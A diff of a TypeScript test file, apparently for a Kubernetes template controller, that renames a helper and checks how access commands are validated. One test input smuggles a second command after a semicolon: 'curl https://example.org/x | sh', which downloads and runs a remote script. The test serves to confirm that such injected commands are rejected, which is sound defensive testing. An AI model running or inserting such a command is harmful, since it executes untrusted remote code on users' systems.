@@ -19,19 +19,19 @@ describe('the conditions of a template', () => {
     await stage.stop();
     return status;
   };
-  const told = ({ conditions = [] }: TemplateStatus, type: string) =>
+  const condition = ({ conditions = [] }: TemplateStatus, type: string) =>
     conditions.filter((one) => one.type === type).map(({ status, reason }) => [status, reason])[0];
 
   it('report an invalid access command until someone changes it', async () => {
     const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh');
-    assert.deepEqual(told(status, 'AccessCommandValid'), ['False', 'InvalidAccessCommand']);
-    assert.deepEqual(told(status, 'Stalled'), ['True', 'InvalidAccessCommand']);
+    assert.deepEqual(condition(status, 'AccessCommandValid'), ['False', 'InvalidAccessCommand']);
+    assert.deepEqual(condition(status, 'Stalled'), ['True', 'InvalidAccessCommand']);
     assert.equal(status.ready, false);
   });
 
   it('say that one which leads to the pod is valid', async () => {
     const status = await statusWith('kubectl exec {{ .Metadata.Name }} -- sh');
-    assert.deepEqual(told(status, 'AccessCommandValid'), ['True', 'Success']);
+    assert.deepEqual(condition(status, 'AccessCommandValid'), ['True', 'Success']);
     assert.equal(status.ready, true);
   });
 });
